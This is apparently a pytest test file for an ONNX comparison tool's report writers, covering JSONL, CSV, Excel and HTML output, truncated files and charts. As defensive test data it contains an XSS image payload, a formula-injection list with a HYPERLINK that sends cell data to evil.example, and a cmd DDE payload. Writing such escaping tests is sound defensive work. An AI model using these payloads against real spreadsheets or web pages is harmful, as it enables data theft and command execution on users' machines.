"""Report files: JSON Lines, CSV, Excel round trips and the static HTML fallback."""

from __future__ import annotations

import json
import math
import re
import zipfile

import pytest

from onnx_sbs_nb.align.blame.summary import summarize
from onnx_sbs_nb.records import RECORD_FIELDS, Record
from onnx_sbs_nb.reports.html import (
    FALLBACK_NEIGHBOURS,
    FALLBACK_ROWS,
    error_chart_img,
    fallback_html,
    report_html,
    script_js,
    script_json,
)
from onnx_sbs_nb.reports.png import read_png
from onnx_sbs_nb.reports.report import (
    JsonlWriter,
    ReportFormatError,
    read_jsonl,
    read_records,
    records_to_frame,
    write_report,
)
from onnx_sbs_nb.reports.view_state import decode_rows

EVIL = "<img src=x onerror=alert(1)>"


def make_records(n: int = 12) -> list[Record]:
    recs = []
    for i in range(n):
        failed = i == 5
        recs.append(
            Record(
                step=i,
                ep_id_node=i,
                onnx_id_node=i - 2,
                ep_name=f"fx_{i}" if i != 3 else EVIL,
                onnx_name=f"val_{i}",
                ep_target="aten.add.Tensor",
                onnx_op_type="Add" if i != 3 else EVIL,
                ep_shape_type="float32[2x3]",
                onnx_shape_type="float32[2x3]",
                err_abs=10.0 ** (-8 + i % 6) if i != 7 else math.nan,
                err_rel=1e-6,
                err_abs2=1e-3 if failed else None,
                passed=not failed,
                passed2=False if failed else None,
                status="fail" if failed else "ok",
                atol=1e-4,
                rtol=1e-4,
                kind="node",
                paired_by="name",
                comment="x & y",
            )
        )
    return recs


def test_frame_columns_are_record_fields():
    df = records_to_frame(make_records())
    # Record.extra (the user's compare function) is flattened: no column of its own
    assert list(df.columns) == [f for f in RECORD_FIELDS if f != "extra"]
    # onnx-diagnostic's sbs column names come first
    assert list(df.columns[:8]) == [
        "ep_id_node",
        "onnx_id_node",
        "ep_name",
        "onnx_name",
        "ep_target",
        "onnx_op_type",
        "onnx_id_output",
        "ep_shape_type",
    ]
    assert math.isnan(df["err_abs"][7])  # "nan" strings from to_dict become numbers again


def test_jsonl_round_trip_and_truncated_last_line(tmp_path):
    recs = make_records()
    path = tmp_path / "run.jsonl"
    with JsonlWriter(path) as w:
        for r in recs[:4]:
            w.write(r)
        # flushed line by line: a reader sees the records while the writer is open
        assert len(read_jsonl(path)) == 4
        for r in recs[4:]:
            w.write(r)
    back = read_jsonl(path)
    assert [r.to_dict() for r in back] == [r.to_dict() for r in recs]
    # a run killed mid-line leaves a partial last line: it is skipped, the rest is kept
    with path.open("a") as f:
        f.write('{"step": 99, "ep_na')
    assert len(read_jsonl(path)) == len(recs)
    with path.open("a") as f:
        f.write('\n{"step": 100}\n')
    with pytest.raises(ReportFormatError, match="not a JSON record"):
        read_jsonl(path)


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_tabular_round_trip(tmp_path, suffix):
    recs = make_records()
    path = write_report(recs, tmp_path / f"r{suffix}", summarize(recs))
    back = read_records(path)
    assert len(back) == len(recs)
    for a, b in zip(recs, back):
        assert a.ep_name == b.ep_name and a.onnx_op_type == b.onnx_op_type
        assert a.passed == b.passed and a.step == b.step and a.comment == b.comment
        if a.err_abs == a.err_abs:
            assert b.err_abs == pytest.approx(a.err_abs)


def test_every_report_format_is_one_entry_of_the_registry(tmp_path, monkeypatch):
    """The formats are named objects in one ordered tuple: each writes its suffixes, those
    that read back give the records they wrote, and a format added to the tuple is
    chosen by its suffix with nothing else to change."""
    from onnx_sbs_nb.reports import report

    suffixes = [s for f in report.REPORT_FORMATS for s in f.suffixes]
    assert len(suffixes) == len(set(suffixes)) and tuple(suffixes) == report.REPORT_SUFFIXES
    recs = make_records()
    for fmt in report.REPORT_FORMATS:
        path = write_report(recs, tmp_path / f"r{fmt.suffixes[0]}", summarize(recs))
        assert path.is_file() and report.report_format(path) is fmt
        if fmt.reads:
            assert [r.ep_name for r in read_records(path)] == [r.ep_name for r in recs]
        else:
            with pytest.raises(ReportFormatError, match="cannot read records"):
                read_records(path)

    class Tsv(report.ReportFormat):
        name, suffixes = "TSV", (".tsv",)

        def write(self, records, path, summary, *, title, model, preface):
            path.write_text("\n".join(r.ep_name for r in records))
            return path

    monkeypatch.setattr(report, "REPORT_FORMATS", (*report.REPORT_FORMATS, Tsv()))
    out = write_report(recs, tmp_path / "r.tsv")
    assert out.read_text().splitlines()[0] == recs[0].ep_name


def test_xlsx_sheets(tmp_path):
    import openpyxl

    recs = make_records()
    path = write_report(recs, tmp_path / "r.xlsx", summarize(recs))
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == ["sbs", "summary", "run"]
    header = [c.value for c in wb["sbs"][1]]
    assert header == [f for f in RECORD_FIELDS if f != "extra"]
    text = "\n".join(str(c.value) for c in wb["summary"]["A"])
    assert "verdict: FAIL" in text


def test_unknown_suffix(tmp_path):
    with pytest.raises(ReportFormatError, match=r"\.html"):
        write_report(make_records(), tmp_path / "r.pdf")
    with pytest.raises(ReportFormatError, match="jsonl"):
        read_records(tmp_path / "r.html")


def test_fallback_escapes_and_shows_summary():
    recs = make_records()
    text = fallback_html(recs, summarize(recs))
    assert EVIL not in text
    assert "&lt;img src=x onerror=alert(1)&gt;" in text
    assert "verdict: FAIL" in text
    assert text.count("<img") == 1 and '<img src="data:image/png;base64,' in text
    assert "<table" in text
    assert "x &amp; y" not in text  # comments are not in the table, but nothing raw leaks
    # the culprit's row comes first in the table
    first_row = text.split("<tbody>")[1].split("</tr>")[0]
    assert "val_5" in first_row and "onnx-sbs-culprit-row" in first_row
    assert fallback_html([], None).count("no records") == 1


def _png(img_html: str):
    import base64

    uri = img_html.split('src="')[1].split('"')[0]
    assert uri.startswith("data:image/png;base64,")
    return read_png(base64.b64decode(uri.split(",", 1)[1]))


def test_fallback_untrusted_has_no_text_but_the_table():
    """An untrusted notebook's sanitizer strips SVG and keeps its text: the static summary
    holds no SVG, and no model string outside the table's rows (no per-point tooltips)."""
    recs = [
        Record(step=i, onnx_name=f"val_{i}", ep_name=f"fx_{i}", err_abs=1e-6 * (i + 1))
        for i in range(300)
    ]
    text = fallback_html(recs, summarize(recs), sharing=True)
    assert "<svg" not in text and "<title" not in text and "<circle" not in text
    shown = {f"val_{i}" for i in range(300) if f">val_{i}<" in text}
    assert len(shown) == FALLBACK_ROWS
    for i in range(300):  # any other mention would be text spilling out of a chart
        if f"val_{i}" not in shown:
            assert f"val_{i}<" not in text and f"val_{i} " not in text, i
    # and the table comes before the chart, the long text is folded
    assert text.index("<table") < text.index("<img") < text.index("<details")


def test_chart_downsamples_but_keeps_spikes():
    recs = [Record(step=i, onnx_name=f"v{i}", err_abs=1e-9) for i in range(5000)]
    recs[4321].err_abs = 5.0
    recs[4321].status = "fail"
    img = _png(error_chart_img(recs, width=640, height=180, max_points=100))
    assert (img.width, img.height) == (640, 180)
    red = [
        (x, y)
        for y in range(img.height)
        for x in range(img.width)
        if img.get(x, y)[:3] == (229, 83, 75) and img.get(x, y)[3] == 255
    ]
    # the spike, in the failing colour, near the top and at 4321/4999 of the axis
    assert red, "no failing point drawn"
    xs = sorted(x for x, _ in red)
    x_spike = 44 + (640 - 44 - 5) * 4321 / 4999
    assert abs(xs[len(xs) // 2] - x_spike) <= 3
    assert max(y for _, y in red) < 40
    assert "v4321" not in error_chart_img(recs)  # no model string in the chart at all


def test_static_rows_culprit_first_then_neighbours_then_worst():
    """Errors a culprit propagates are larger than its own: sorted by error alone, the
    culprit fell off the table. It comes first, the rows around it next, then the worst."""
    recs = []
    for i in range(60):
        culprit = i == 30
        after = i > 30
        recs.append(
            Record(
                step=i,
                onnx_name=f"val_{i}",
                ep_name=f"fx_{i}",
                kind="node",
                err_abs=1e-3 if culprit else (1.0 + i if after else 1e-8),
                err_abs2=1e-3 if culprit else (1e-8 if after else None),
                passed=not (culprit or after),
                passed2=False if culprit else (True if after else None),
                status="fail" if culprit or after else "ok",
                atol=1e-4,
                rtol=1e-4,
            )
        )
    s = summarize(recs)
    assert s.culprit is not None and s.culprit.step == 30
    text = fallback_html(recs, s)
    rows = text.split("<tbody>")[1].split("</tbody>")[0].split("</tr>")[:-1]
    # the ONNX value's column, found by its header (the columns' order is the view's)
    heads = re.findall(r"<th>(.*?)</th>", text.split("<tbody>")[0])
    at = heads.index("ONNX value")
    names = [re.findall(r"<td[^>]*>(.*?)</td>", r)[at] for r in rows]
    near = [f"val_{i}" for i in range(30 - FALLBACK_NEIGHBOURS, 31 + FALLBACK_NEIGHBOURS)]
    assert names[0] == "val_30" and "onnx-sbs-culprit-row" in rows[0]
    assert sorted(names[1 : len(near)]) == sorted(n for n in near if n != "val_30")
    assert names[len(near)] == "val_59"  # then the worst
    assert len(names) == FALLBACK_ROWS
    assert "of which 29 only inherit their error" in text


def test_script_escapes():
    s = script_json({"a": "</script><!--<b>&"})
    assert "<" not in s and ">" not in s and "&" not in s
    assert json.loads(s) == {"a": "</script><!--<b>&"}
    js = script_js('const a = "</SCRIPT>", b = "<!--";')
    assert "</script" not in js.lower() and "<!--" not in js


def test_report_page_structure():
    """One file: the state as inert JSON, the bundle as inert text, one loader module."""
    recs = make_records()
    bundle = 'export function renderStatic(el, s) { el.textContent = "</script>"; }'
    page = report_html(recs, title=EVIL, bundle=bundle)
    assert EVIL not in page  # title, names and summary all escaped
    assert page.count('<script type="module">') == 1
    assert page.count("</script>") == 3  # state, bundle, loader: the bundle's own is escaped
    state = page.split('<script type="application/json" id="onnx-sbs-state-0">')[1]
    data = json.loads(state.split("</script>")[0])
    assert data["columns"] == list(RECORD_FIELDS) and len(decode_rows(data["rows"])) == len(recs)
    assert data["summary"]["verdict"] == "fail"


# ---- hostile strings, cut files (issue 12) --------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
]


def _formula_records() -> list[Record]:
    recs = make_records(len(FORMULAS))
    for r, name in zip(recs, FORMULAS):
        r.ep_name = r.onnx_name = r.comment = name
        r.onnx_op_type = "Add"
    return recs


def test_model_strings_never_become_formulas(tmp_path):
    import csv

    import openpyxl

    recs = _formula_records()
    summary = summarize(recs)
    csv_path = write_report(recs, tmp_path / "r.csv", summary)
    with csv_path.open(newline="") as f:
        rows = list(csv.DictReader(f))
    for row, name in zip(rows, FORMULAS):
        for col in ("ep_name", "onnx_name", "comment"):
            assert row[col] == "'" + name  # the spreadsheet shows it as text
    assert [r.ep_name for r in read_records(csv_path)] == FORMULAS  # and it reads back

    xlsx_path = write_report(recs, tmp_path / "r.xlsx", summary)
    wb = openpyxl.load_workbook(xlsx_path)
    for sheet in wb.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    names = [c.value for c in wb["sbs"]["C"][1:]]  # ep_name column
    assert names[0] == FORMULAS[0]  # the exact text, stored as a string
    with zipfile.ZipFile(xlsx_path) as z:
        assert not any(b"<f>" in z.read(n) for n in z.namelist() if n.endswith(".xml"))
    # (XML turns a CR into a line feed)
    assert [r.ep_name for r in read_records(xlsx_path)] == [n.replace("\r", "\n") for n in FORMULAS]


def test_control_characters_do_not_cost_the_workbook(tmp_path):
    recs = make_records(2)
    recs[0].onnx_name = "bell\x07and\x00nul"
    path = write_report(recs, tmp_path / "r.xlsx", summarize(recs))
    assert read_records(path)[0].onnx_name == "bell\\x07and\\x00nul"


def test_cut_jsonl_reads_back_incomplete(tmp_path):
    from onnx_sbs_nb.completion import Completion
    from onnx_sbs_nb.reports.report import read_jsonl_file, write_jsonl

    recs = make_records()
    whole = tmp_path / "whole.jsonl"
    done = Completion("finished", 10, 10)
    write_jsonl(recs, whole, done)
    assert read_jsonl_file(whole).completion == done
    lines = whole.read_text().splitlines()
    cut = tmp_path / "cut.jsonl"
    for keep in (len(lines) - 1, 5):  # the trailer lost; the file cut in the middle
        cut.write_text("\n".join(lines[:keep]) + "\n")
        found = read_jsonl_file(cut)
        assert found.completion.state == "incomplete" and "end-of-run" in found.completion.reason
        s = summarize(found.records, completion=found.completion)
        assert s.verdict == "incomplete" and s.to_dict()["verdict"] == "incomplete"
        assert s.to_text().startswith("verdict: INCOMPLETE")
    cut.write_text("\n".join(lines[:5]) + '\n{"step": 5, "ep_na')  # killed mid-line
    assert len(read_jsonl_file(cut).records) == 4
    # a file without the header (an older version, another tool) proves nothing either
    bare = tmp_path / "bare.jsonl"
    bare.write_text("\n".join(json.dumps(r.to_dict()) for r in recs) + "\n")
    assert read_jsonl_file(bare).completion.state == "incomplete"
    # a trailer that does not count the records is a file someone cut and glued
    glued = tmp_path / "glued.jsonl"
    glued.write_text("\n".join([*lines[:4], lines[-1]]) + "\n")
    assert read_jsonl_file(glued).completion.state == "incomplete"


@pytest.mark.parametrize("suffix", [".csv", ".xlsx", ".jsonl", ".html"])
def test_stopped_run_reports_say_stopped(tmp_path, suffix):
    from onnx_sbs_nb.completion import Completion
    from onnx_sbs_nb.reports.report import read_records_file

    recs = [r for r in make_records() if r.status == "ok"]  # every pair passes...
    stopped = Completion("stopped", 300, 1002, "stopped before the end")
    s = summarize(recs, completion=stopped)  # ...but the run was stopped
    assert s.verdict == "stopped" and s.to_dict()["totals"]["nodes_total"] == 1002
    path = write_report(recs, tmp_path / f"r{suffix}", s)
    if suffix == ".html":
        text = path.read_text()
        assert "verdict: STOPPED at 300 of 1002 ONNX nodes" in text
        assert "verdict: PASS" not in text
    else:
        assert read_records_file(path).completion == stopped


def test_a_planted_link_is_replaced_not_followed(tmp_path):
    outside = tmp_path / "outside.txt"
    outside.write_text("precious")
    folder = tmp_path / "reports"
    folder.mkdir()
    for suffix in (".html", ".csv", ".xlsx", ".jsonl"):
        link = folder / f"r{suffix}"
        link.symlink_to(outside)
        write_report(make_records(3), link, summarize(make_records(3)))
        assert not link.is_symlink() and link.stat().st_size > 0
        assert outside.read_text() == "precious"
    streamed = folder / "streamed.jsonl"
    streamed.symlink_to(outside)
    with JsonlWriter(streamed) as w:
        w.write(make_records(1)[0])
    assert not streamed.is_symlink() and outside.read_text() == "precious"


@pytest.mark.parametrize("suffix", [".csv", ".xlsx", ".jsonl"])
def test_measures_and_extra_fields_round_trip(tmp_path, suffix):
    """The measures are columns like the other errors; the fields a compare function
    returned (Record.extra) become ``extra.<name>`` columns and come back as extra."""
    recs = make_records()
    recs[0].err_snr, recs[0].err_cos, recs[0].err_ulp = 42.5, 0.99, 3.0
    recs[1].err_snr = math.inf
    recs[0].extra = {"psnr": 51.25, "label": "=cmd()", "flag": True}
    recs[2].extra = {"psnr": 12.0}
    path = write_report(recs, tmp_path / f"r{suffix}", summarize(recs))
    if suffix != ".jsonl":
        df = records_to_frame(recs)
        assert list(df.columns[-3:]) == ["extra.psnr", "extra.label", "extra.flag"]
    back = read_records(path)
    assert back[0].err_snr == 42.5 and back[0].err_cos == 0.99 and back[0].err_ulp == 3.0
    assert back[1].err_snr == math.inf
    assert back[0].extra == {"psnr": 51.25, "label": "=cmd()", "flag": True}
    assert back[2].extra == {"psnr": 12.0} and back[3].extra == {}
